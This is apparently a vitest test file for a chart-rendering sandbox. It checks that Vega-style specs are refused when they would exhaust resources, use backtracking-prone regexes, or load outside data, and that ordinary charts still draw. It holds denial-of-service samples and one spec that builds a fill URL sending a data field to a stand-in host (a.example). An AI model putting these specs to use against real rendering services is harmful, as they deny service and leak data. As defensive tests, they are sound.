import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../src/base/json';
import { drawing, vegaSpec } from '../../src/share/chart-drawing';
import { tamePattern } from '../../src/share/tame-pattern';

const DATA = { values: [{ a: 'x', b: 28 }, { a: 'y', b: 55 }] }; // prettier-ignore
const X = { field: 'a', type: 'nominal' };
const Y = { field: 'b', type: 'quantitative' };
const MANY = [{ calculate: 'sequence(10000)', as: 's' }, { flatten: ['s'] }];
const ENDLESS = "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab'";

function drawn(spec: object): Promise<string> {
  const whole = { data: DATA, mark: 'point', encoding: { x: X, y: Y }, ...spec };
  const chart = { name: 'chart', title: '', description: '', spec: whole as never };
  return Promise.resolve().then(() => drawing(vegaSpec(chart, 300)));
}

const said = (calculate: string): JsonObject => ({ transform: [{ calculate, as: 'said' }] });

describe('charts that would never be done', () => {
  it.each<[string, object, string]>([
    ['lists within lists', { transform: [MANY[0], { flatten: ['s'], as: ['t'] }, { flatten: ['s'], as: ['u'] }] }, 'chart-too-large'],
    ['columns folded again and again', { transform: Array.from({ length: 8 }, (_, k) => ({ fold: Array(10).fill('b'), as: [`k${k}`, `v${k}`] })) }, 'chart-too-large'],
    ['bins as thin as hair', { encoding: { x: { ...Y, bin: { step: 1e-7 } } } }, 'chart-too-large'],
    ['ticks counted by an expression', { encoding: { x: { ...Y, axis: { tickCount: { expr: '1e8' } } } } }, 'chart-too-large'],
    ['quantiles without end', { transform: [{ quantile: 'b', step: 1e-9 }] }, 'chart-too-large'],
    ['a part for each of thousands', { transform: MANY, facet: { row: { field: 's', type: 'nominal' } }, spec: { mark: 'bar' }, mark: undefined, encoding: undefined }, 'chart-too-large'],
    ['a pattern that tries all ways', said(`test(regexp('(a+)+$'), ${ENDLESS})`), 'chart-pattern'],
    ['such a pattern as text', said(`test('(a+)+$', ${ENDLESS})`), 'chart-pattern'],
    ['such a pattern written out', said(`test(/(a|aa)+$/, ${ENDLESS})`), 'chart-pattern'],
    ['such a pattern that replaces', said(`replace(${ENDLESS}, regexp('(a+)+$'), '')`), 'chart-pattern'],
    ['a simple pattern in a long text', said("test('a*a*b', join(sequence(2000), 'a'))"), 'chart-too-large'],
    ['a column for each of thousands', { transform: [...MANY, { pivot: 's', value: 'b' }] }, 'chart-too-large'],
    ['every key for every group', { transform: [...MANY, { impute: 'b', key: 's', groupby: ['s'] }] }, 'chart-too-large'],
    ['a median of all before each', { transform: [...MANY, { window: [{ op: 'median', field: 'b', as: 'm' }] }] }, 'chart-too-large'],
    ['averages resampled', { transform: [...MANY, { joinaggregate: [{ op: 'ci0', field: 'b', as: 'm' }] }] }, 'chart-too-large'],
    ['a density without end', { transform: [{ density: 'b', maxsteps: 1e9 }] }, 'chart-too-large'],
    ['a curve through everything', { transform: [...MANY, { loess: 'b', on: 's', bandwidth: 1 }] }, 'chart-too-large'],
    ['a polynomial of order 2,000', { transform: [{ regression: 'b', on: 'a', method: 'poly', order: 2000 }] }, 'chart-too-large'],
    ['outlines as long as books', { mark: { type: 'point', shape: { expr: "join(sequence(2000), 'L1,1')" } } }, 'chart-too-large'],
    ['dashes as thin as dust', { mark: { type: 'line', strokeDash: [1e-9, 1e-9] } }, 'chart-too-large'],
    ['thousands of dashes', { mark: { type: 'line', strokeDash: { expr: 'sequence(9999)' } } }, 'chart-too-large'],
    ['a tick for each millisecond', { transform: [{ calculate: "datetime(datum.a === 'x' ? 1 : 9999, 0)", as: 't' }], encoding: { x: { field: 't', type: 'temporal', axis: { tickCount: { interval: 'millisecond', step: 1 } } } } }, 'chart-too-large'],
    ['a label for each of thousands', { transform: MANY, encoding: { x: { field: 's', type: 'nominal' } } }, 'chart-too-large'],
    ['a legend of thousands', { transform: MANY, encoding: { x: X, color: { field: 's', type: 'nominal' } } }, 'chart-too-large'],
    ['parts and parts of parts', { transform: [{ calculate: 'sequence(200)', as: 's' }, { flatten: ['s'] }], facet: { row: { field: 's', type: 'nominal' } }, spec: { layer: Array(30).fill({ mark: 'bar' }) }, mark: undefined, encoding: undefined }, 'chart-too-large'],
    ['a globe in a thousand bends', { data: { sphere: true }, mark: 'geoshape', encoding: undefined, projection: { type: 'orthographic', precision: 1e-9 } }, 'chart-too-large'],
    ['texts doubled again and again', { transform: [{ calculate: "'xxxx'", as: 's' }, ...Array(40).fill({ calculate: 'datum.s + datum.s', as: 's' })] }, 'chart-too-large'],
    ['lists doubled again and again', { transform: [{ calculate: '[1, 2]', as: 's' }, ...Array(40).fill({ calculate: '[datum.s, datum.s]', as: 's' })] }, 'chart-too-large'],
    ['every row for every row', { transform: [...MANY, { calculate: "length(pluck(data('source_0'), 'b'))", as: 'n' }, { calculate: "extent(sequence(datum.s))", as: 'u' }] }, 'chart-too-large'],
    ['a number a million letters wide', said("format(datum.b, '999999d')"), 'chart-too-large'],
    ['a mark for each of 20,000 rows', { transform: MANY, encoding: { x: { field: 's', type: 'quantitative' }, y: Y } }, 'chart-too-large'],
    ['a text for each of 6,000 rows', { transform: [{ calculate: 'sequence(3000)', as: 's' }, { flatten: ['s'] }], mark: 'text', encoding: { x: { field: 's', type: 'quantitative' }, text: X } }, 'chart-too-large'],
    ['a name of a million letters', { data: { values: [{ a: 'x'.repeat(1e6), b: 1 }] } }, 'chart-too-large'],
    ['a simple pattern that tries three places', said(`test(/a*a*a?a?a?a?b/, pad('', 1000, 'a'))`), 'chart-too-large'],
    ['arcs of a map named again and again', { data: { values: { type: 'Topology', arcs: [Array.from({ length: 100 }, (_, k) => [k, k])], objects: { x: { type: 'MultiLineString', arcs: Array(60).fill([0]) } } }, format: { type: 'topojson', feature: 'x' } }, mark: 'geoshape', encoding: undefined }, 'chart-too-large'],
    ['outlines measured again and again', { data: { values: [{ g: { type: 'LineString', coordinates: Array.from({ length: 2000 }, (_, k) => [k % 90, k % 80]) } }] }, transform: [{ calculate: 'sequence(1000)', as: 's' }, { flatten: ['s'] }, { calculate: 'geoArea(null, datum.g)', as: 'b' }] }, 'chart-too-large'],
    ['numbers to an end that is text', { data: { sequence: { start: 0, stop: '30000000' } } }, 'chart-too-large'],
    ['numbers to an end that is computed', { params: [{ name: 'end', expr: '2e7' }], data: { sequence: { start: 0, stop: { signal: 'end' } } } }, 'chart-too-large'],
    ['a scale of millions', { encoding: { x: { ...Y, scale: { type: 'log', base: 4e7, domain: [1, 4e7] } } } }, 'chart-too-large'],
    ['dates written at length', { transform: [...MANY, { calculate: `utcFormat(datum.s, '${'%A%B%U%W%V'.repeat(100)}')`, as: 't' }] }, 'chart-too-large'],
    ['choices by the thousand', { params: [{ name: 'p', select: { type: 'point', fields: ['a'] }, value: Array.from({ length: 4000 }, (_, k) => ({ a: k })) }], transform: [{ calculate: 'sequence(1000)', as: 's' }, { flatten: ['s'] }], encoding: { x: X, y: Y, color: { condition: { param: 'p', value: 'red' }, value: 'gray' } } }, 'chart-too-large'],
    ['a font for each text', { transform: [{ calculate: 'sequence(500)', as: 's' }, { flatten: ['s'] }], mark: { type: 'text', limit: 30 }, encoding: { x: X, text: X, size: { field: 's', type: 'quantitative', scale: null } } }, 'chart-too-large'],
    ['a field for each of thousands', { encoding: { x: X, y: Y, detail: Array.from({ length: 2500 }, (_, k) => ({ field: `a${k}` })) } }, 'chart-too-large'],
    ['rows under a name of their own', { data: { values: { deep: Array(30_000).fill({ a: 'x', b: 1 }) }, format: { property: 'deep' } } }, 'chart-too-large'],
    ['a color that is computed and is an address', { params: [{ name: 'u', value: 'u' }], transform: [{ calculate: "u + 'rl(http://a.example/?d=' + datum.b + ')'", as: 'c' }], encoding: { x: X, y: Y, fill: { field: 'c', type: 'nominal', scale: null } } }, 'chart-loads-data'],
    ['what is no expression', said('1 +* 2'), 'chart-broken'],
    ['what is no chart', { mark: undefined }, 'chart-broken'],
  ])('refuses %s', async (_, spec, code) => {
    await expect(drawn(spec)).rejects.toThrow(code);
  }); // prettier-ignore

  it.each<[string, object]>([
    ['folded and flattened', { transform: [{ fold: ['a', 'b'] }, { calculate: 'sequence(5)', as: 's' }, { flatten: ['s'] }] }],
    ['in bins', { encoding: { x: { ...Y, bin: { step: 5 } } } }],
    ['divided by two fields', { encoding: { x: X, y: Y, row: { field: 'a' }, column: { field: 'b' } } }],
    ['a line through thousands of points', { transform: MANY, mark: 'line', encoding: { x: { field: 's', type: 'quantitative' }, y: Y } }],
    ['a text of thousands of letters', { title: 'y'.repeat(9000) }],
    ['smoothed', { transform: [{ calculate: 'sequence(300)', as: 's' }, { flatten: ['s'] }, { loess: 'b', on: 's' }], encoding: { x: { field: 's', type: 'quantitative' }, y: Y } }],
    ['as wide as its parts', { width: { step: 20 }, autosize: 'fit' }],
    ['by month', said("length(timeSequence('month', datetime(2020, 0), datetime(2026, 0)))")],
    ['searched', said("test(/^(x|y)\\w*$/i, datum.a) ? pad(datum.a, 5) : replace(datum.a, 'x', 'z')")],
  ])('draws what is %s', async (_, spec) => {
    expect(await drawn(spec)).toContain('<svg');
  }); // prettier-ignore
});

describe('tamePattern', () => {
  it.each(['^checkout', 'a.*b', '^(DE|FR|US)$', '[(+*]{2}', '\\(\\d+\\)', '(?:app)?web'])(
    'passes %s',
    (pattern) => expect(() => tamePattern(pattern)).not.toThrow(),
  );

  it.each(['(a*)*', '(a|a){40}', 'a*a*a*a*b', 'a?a?a?a?a?aaaaa', 'x'.repeat(300)])(
    'refuses %s',
    (pattern) => expect(() => tamePattern(pattern)).toThrow('chart-pattern'),
  );
});

it('waits for what a layout makes run again before it draws', async () => {
  const values = Array.from({ length: 5000 }, (_, at) => ({ a: at, b: at }));
  const encoding = { x: { ...Y, field: 'a' }, y: Y };
  const svg = await drawn({ width: 'container', data: { values }, encoding });
  const places = [...svg.matchAll(/translate\(([\d.]+),[\d.]+\)" d="M/g)];
  const farthest = Math.max(...places.map(([, x]) => Number(x)));
  expect(places.length).toBe(5000);
  // The room that the axis took from the 300 pixels.
  expect(farthest).toBeLessThan(290);
  expect(farthest).toBeGreaterThan(200);
});
